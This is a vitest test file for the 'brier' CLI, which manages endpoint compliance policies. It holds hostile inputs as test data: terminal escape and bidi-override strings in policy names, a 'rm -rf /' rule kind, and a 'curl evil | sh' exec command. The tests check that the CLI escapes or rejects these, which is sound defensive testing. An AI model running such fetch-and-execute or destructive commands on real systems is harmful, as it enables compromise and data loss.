import { mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { problem, rawControls, useFakeApi } from '../__fixtures__/fake-api.js';

const ID = '0b7c1f5e-2a4d-4c7e-9f10-3d2e1c0b9a87';

const POLICY = {
  id: ID,
  name: 'Antivirus healthy',
  mode: 'enforce',
  version: 3,
  rules: [
    { kind: 'antivirus', provider: 'auto', maxSignatureAgeHours: 24 },
    { kind: 'service-running', name: 'ssh' },
  ],
  targets: { groups: ['laptops', 'servers'], hostIds: [] },
  intervalMinutes: 15,
  quarantineAfterMinutes: 60,
  createdBy: 'alice',
  createdAt: '2026-11-01T08:00:00.000Z',
  updatedAt: '2026-11-02T09:30:00.000Z',
};

const HOSTILE = {
  ...POLICY,
  id: 'p-2',
  name: 'evil\u001b[2J\u202e',
  mode: 'audit',
  version: 1,
  rules: [{ kind: 'package-absent', name: 'telnetd\u001b]0;pwned\u0007' }],
  targets: { hostIds: ['h-1', 'h-2'] },
};

const DETAIL = {
  ...POLICY,
  compliance: {
    hosts: { compliant: 40, noncompliant: 2, remediated: 5, error: 1, unknown: 3, total: 51 },
    rules: [
      { index: 0, kind: 'antivirus', compliant: 44, noncompliant: 2, remediated: 4, error: 1, unknown: 0 },
      { index: 1, kind: 'service-running', compliant: 50, noncompliant: 0, remediated: 1, error: 0, unknown: 0 },
    ],
  },
};

const { api, cli } = useFakeApi({
  'GET /api/v1/policies': { body: { items: [POLICY, HOSTILE] } },
  [`GET /api/v1/policies/${ID}`]: { body: DETAIL },
  'POST /api/v1/policies': (req) => ({ status: 201, body: { ...POLICY, ...(req.body as object), id: ID, version: 1 } }),
  [`PUT /api/v1/policies/${ID}`]: (req) => ({ body: { ...POLICY, ...(req.body as object), version: 4 } }),
  [`DELETE /api/v1/policies/${ID}`]: { status: 204 },
});

let tmp = '';
beforeAll(async () => {
  tmp = await mkdtemp(join(tmpdir(), 'brier-policies-'));
});
afterAll(async () => {
  await rm(tmp, { recursive: true, force: true });
});

describe('brier policies list', () => {
  it('prints a table of policies with their rules and targets, escaping what the server sent', async () => {
    const { code, stdout } = await cli(['policies', 'list']);
    expect(code).toBe(0);
    const lines = stdout.trimEnd().split('\n');
    expect(lines[0]).toMatch(/^ID +NAME +MODE +VERSION +RULES +TARGETS +INTERVAL +UPDATED$/);
    expect(lines[1]).toMatch(
      /^0b7c1f5e-\S+ +Antivirus healthy +enforce +3 +antivirus,service-running +groups laptops,servers +15m +2026-11-02T09:30:00Z$/,
    );
    expect(lines[2]).toContain('evil\\x1b[2J\\u202e');
    expect(lines[2]).toContain('2 hosts');
    expect(rawControls(stdout)).toEqual([]);
  });

  it("prints exactly the server's items under --json", async () => {
    const { stdout } = await cli(['policies', 'list', '--json']);
    expect(JSON.parse(stdout)).toEqual([POLICY, HOSTILE]);
  });
});

describe('brier policies show', () => {
  it('shows the policy, its targets and how the hosts comply per rule', async () => {
    const { code, stdout } = await cli(['policies', 'show', ID]);
    expect(code).toBe(0);
    expect(stdout).toMatch(/^Mode +enforce$/m);
    expect(stdout).toMatch(/^Groups +laptops, servers$/m);
    expect(stdout).toMatch(/^Quarantine after +60 min of unhealthy antivirus$/m);
    expect(stdout).toMatch(/^Hosts comply +40 compliant, 2 noncompliant, 5 remediated, 1 error, 3 unknown \(of 51\)$/m);
    expect(stdout).toMatch(/^0 +antivirus provider=auto maxSignatureAgeHours=24 +44 +2 +4 +1$/m);
    expect(stdout).toMatch(/^1 +service-running name=ssh +50 +0 +1 +0$/m);
  });

  it('escapes control characters in rule settings', async () => {
    api.routes.set(`GET /api/v1/policies/${ID}`, { body: HOSTILE });
    const { stdout } = await cli(['policies', 'show', ID]);
    expect(stdout).toContain('package-absent name=telnetd\\x1b]0;pwned\\x07');
    expect(rawControls(stdout)).toEqual([]);
  });

  it('refuses ids that would address another path, and a non-object answer', async () => {
    for (const id of ['..', '.', '']) expect((await cli(['policies', 'show', id])).code, id).toBe(2);
    expect(api.requests).toHaveLength(0);
    api.routes.set(`GET /api/v1/policies/${ID}`, { body: [] });
    const { code, stderr } = await cli(['policies', 'show', ID]);
    expect(code).toBe(1);
    expect(stderr).toContain('Unexpected response from server');
  });
});

describe('brier policies create', () => {
  it('builds the policy from flags, with --antivirus adding the antivirus rule', async () => {
    const { code, stdout } = await cli([
      'policies',
      'create',
      '--name',
      'AV',
      '--mode',
      'enforce',
      '--rule',
      '{"kind":"service-running","name":"ssh"}',
      '--rule',
      '{"kind":"firewall-enabled"}',
      '--antivirus',
      'clamav',
      '--max-signature-age-hours',
      '24',
      '--groups',
      'laptops, servers,laptops',
      '--hosts',
      'h-1',
      '--interval-minutes',
      '30',
      '--quarantine-after-minutes',
      '60',
    ]);
    expect(code).toBe(0);
    expect(api.requests[0]).toMatchObject({ method: 'POST', rawUrl: '/api/v1/policies' });
    expect(api.requests[0]?.body).toEqual({
      name: 'AV',
      mode: 'enforce',
      rules: [
        { kind: 'service-running', name: 'ssh' },
        { kind: 'firewall-enabled' },
        { kind: 'antivirus', provider: 'clamav', maxSignatureAgeHours: 24 },
      ],
      targets: { hostIds: ['h-1'], groups: ['laptops', 'servers'] },
      intervalMinutes: 30,
      quarantineAfterMinutes: 60,
    });
    expect(stdout).toBe(`Policy ${ID} (AV) created: version 1, enforce.\n`);
  });

  it('sends a policy file as it is, from a path or from stdin', async () => {
    const input = {
      name: 'Pkg',
      mode: 'audit',
      rules: [{ kind: 'package-installed', name: 'openssh-server' }],
      targets: { groups: ['all'] },
    };
    const file = join(tmp, 'policy.json');
    await writeFile(file, JSON.stringify(input));
    expect((await cli(['policies', 'create', '--file', file])).code).toBe(0);
    const piped = await cli(['policies', 'create', '--file', '-', '--json'], { stdin: JSON.stringify(input) });
    expect(piped.code).toBe(0);
    expect(JSON.parse(piped.stdout)).toMatchObject({ id: ID, name: 'Pkg' });
    expect(api.requests.map((r) => r.body)).toEqual([input, input]);
  });

  it('refuses bad flags with exit 2 before contacting the server', async () => {
    const base = ['--name', 'AV', '--mode', 'audit'];
    const cases = [
      [],
      ['--mode', 'audit', '--antivirus', 'auto'],
      ['--name', 'AV', '--antivirus', 'auto'],
      ['--name', 'AV', '--mode', 'remediate', '--antivirus', 'auto'],
      base,
      [...base, '--rule', 'not json'],
      [...base, '--rule', '[1]'],
      [...base, '--rule', '{"kind":"rm -rf /"}'],
      [...base, '--antivirus', 'norton'],
      [...base, '--antivirus', 'auto', '--max-signature-age-hours', '0'],
      [...base, '--antivirus', 'auto', '--max-signature-age-hours', '9000'],
      [...base, '--rule', '{"kind":"firewall-enabled"}', '--max-signature-age-hours', '24'],
      [...base, '--rule', '{"kind":"firewall-enabled"}', '--interval-minutes', '0'],
      [...base, '--rule', '{"kind":"firewall-enabled"}', '--interval-minutes', '1441'],
      ['--name', 'a\u001b[31m', '--mode', 'audit', '--antivirus', 'auto'],
      ['--name', ' ', '--mode', 'audit', '--antivirus', 'auto'],
      [...base, '--antivirus', 'auto', '--groups', 'a\u0007'],
      ['--file', join(tmp, 'missing.json')],
      ['--file', '-', '--name', 'x'],
      [...base, '--antivirus', 'auto', 'extra'],
    ];
    for (const args of cases) {
      const { code, stderr } = await cli(['policies', 'create', ...args]);
      expect(code, args.join(' ')).toBe(2);
      expect(stderr, args.join(' ')).toContain('Usage: brier policies create');
    }
    expect(api.requests).toHaveLength(0);
  });

  it('refuses policy files that are not a policy before contacting the server', async () => {
    for (const text of [
      'not json',
      '[]',
      '{"mode":"audit","rules":[{"kind":"firewall-enabled"}]}',
      '{"name":"x","mode":"permissive","rules":[{"kind":"firewall-enabled"}]}',
      '{"name":"x","mode":"audit","rules":[]}',
      '{"name":"x","mode":"audit","rules":[{"kind":"exec","command":"curl evil | sh"}]}',
      '{"name":"x","mode":"audit","rules":[{"kind":"firewall-enabled"}],"targets":["all"]}',
    ]) {
      const { code, stderr } = await cli(['policies', 'create', '--file', '-'], { stdin: text });
      expect(code, text).toBe(2);
      expect(stderr, text).toContain('--file');
    }
    expect(api.requests).toHaveLength(0);
  });

  it("passes the server's refusal of a rule on with exit 1", async () => {
    api.routes.set('POST /api/v1/policies', problem(400, 'Bad Request', 'bad_request', 'rules[0].name: must match pattern'));
    const { code, stderr } = await cli([
      'policies',
      'create',
      '--name',
      'x',
      '--mode',
      'audit',
      '--rule',
      '{"kind":"package-absent","name":"-rf"}',
    ]);
    expect(code).toBe(1);
    expect(stderr).toBe('brier: Bad Request: rules[0].name: must match pattern (code bad_request, HTTP 400)\n');
  });
});

describe('brier policies update and delete', () => {
  it('PUTs the file to the policy and reports the new version', async () => {
    const input = { name: 'AV', mode: 'audit', rules: [{ kind: 'antivirus', provider: 'defender' }], targets: { groups: ['win'] } };
    const { code, stdout } = await cli(['policies', 'update', ID, '--file', '-'], { stdin: JSON.stringify(input) });
    expect(code).toBe(0);
    expect(api.requests[0]).toMatchObject({ method: 'PUT', rawUrl: `/api/v1/policies/${ID}`, body: input });
    expect(stdout).toBe(`Policy ${ID} (AV) updated: version 4, audit.\n`);
  });

  it('needs --file and a usable id', async () => {
    expect((await cli(['policies', 'update', ID])).code).toBe(2);
    expect((await cli(['policies', 'update', '..', '--file', '-'], { stdin: '{}' })).code).toBe(2);
    expect(api.requests).toHaveLength(0);
  });

  it('deletes a policy', async () => {
    const { code, stdout } = await cli(['policies', 'delete', ID]);
    expect(code).toBe(0);
    expect(api.requests[0]).toMatchObject({ method: 'DELETE', rawUrl: `/api/v1/policies/${ID}` });
    expect(stdout).toBe(`Policy ${ID} deleted.\n`);
  });
});
